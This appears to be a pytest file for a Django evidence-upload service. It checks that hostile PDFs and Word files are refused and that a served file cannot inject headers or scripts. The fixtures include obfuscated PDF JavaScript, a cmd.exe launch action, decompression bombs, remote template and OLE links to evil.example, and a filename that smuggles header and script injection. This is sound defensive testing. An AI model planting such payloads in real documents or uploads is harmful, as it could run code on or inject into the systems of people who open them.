"""Hostile files that the simple checks let through, and what such a file costs the server."""

import html
import time
import zlib

import pytest
from django.urls import reverse

from submissions.filechecks import FileRefused
from tests.access.test_access import sign_in
from tests.access.world import World
from tests.submissions import files
from tests.submissions.test_filechecks import BOMB, BROKEN, MACRO, check

MB = 1024 * 1024
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATION = '<R><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></R>'


def relations(kind: str, target: str) -> dict[str, bytes]:
    return {"word/_rels/settings.xml.rels": RELATION.format(kind=kind, target=target).encode()}


def many_streams(count: int, unpacked: int) -> bytes:
    packed = zlib.compress(b"\0" * unpacked, 9)
    return files.pdf(count * (b"4 0 obj<</Type/ObjStm>>stream\n" + packed + b"\nendstream endobj\n"))


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (files.pdf(b"4 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\n"), "tên mã hóa.pdf", MACRO),
        (files.pdf(b"4 0 obj<</S/L#61unch/F(cmd.exe)>>endobj\n"), "tên mã hóa 2.pdf", MACRO),
        (files.packed_pdf(b"<</S/#4Aava#53cript>>").replace(b"/ObjStm", b"/Obj#53tm"), "giấu hai lần.pdf", MACRO),
        (files.pdf(b"4 0 obj<</S/Rendition/JS(app.alert(1))>>endobj\n"), "phim.pdf", MACRO),
        (files.pdf(trailer=b"<</Root 1 0 R/#45ncrypt 9 0 R>>"), "mật khẩu giấu.pdf", BROKEN),
        (many_streams(40, 8 * MB), "bom.pdf", BOMB),
        (files.pdf(b"/Type/ObjStm stream\n" * (MB // 2)), "nhiều mảnh.pdf", BOMB),
        (files.office(types=html.escape(MACRO_TYPE).replace("E", "&#69;")), "ký tự số.docx", MACRO),
        (files.office(types=" " * (MB - 15) + MACRO_TYPE), "vắt ngang.docx", MACRO),
        (files.office(types="application/vnd.ms-office.vbaProject"), "dự án.docx", MACRO),
        (files.office(extra=relations("attachedTemplate", "https://evil.example/a.dotm")), "mẫu ngoài.docx", MACRO),
        (files.office(extra=relations("oleObject", "file://evil.example/a")), "ole ngoài.docx", MACRO),
    ],
)
def test_hidden_active_content_is_found(data, name, words):
    began = time.process_time()
    with pytest.raises(FileRefused) as refused:
        check(data, name)
    assert str(refused.value) == words
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (files.office(extra=relations("hyperlink", "https://lechan.example/")), "liên kết.docx"),
        (files.office(extra=relations("attachedTemplate", "file:///C:/Users/lan/Normal.dotm")), "mẫu thường.docx"),
        (files.pdf(b"4 0 obj<</Length 9>>stream\n\x01/JS(\x02\x03\x04\x05\nendstream endobj\n"), "ngẫu nhiên.pdf"),
    ],
)
def test_honest_files_that_look_alike_are_taken(data, name):
    assert check(data, name).name == name


@pytest.mark.django_db
def test_a_file_comes_out_as_what_it_is_and_can_do_nothing():
    world = World()
    client = sign_in(world, "officer")
    name = 'a"; filename=evil.html\r\nX-Evil: 1 <script>alert(1)</script>.png'
    upload = world.upload()
    upload.name = name
    url = reverse("submissions:evidence_upload", args=[world.draft.pk])
    shown = client.post(url, {"place": str(world.place), "file": upload}).json()
    assert shown["ok"] and "<script" not in shown["html"]
    file = world.draft.evidence.get()
    for query, disposition in (("", "attachment"), ("?xem=1", "inline")):
        answer = client.get(reverse("submissions:evidence_file", args=[file.pk]) + query)
        assert answer.headers["Content-Type"] == "image/png"
        assert answer.headers["Content-Disposition"].startswith(disposition)
        assert "X-Evil" not in answer.headers and "\n" not in answer.headers["Content-Disposition"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Cache-Control"] == "no-store, private"
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert "script-src" not in answer.headers["Content-Security-Policy"]
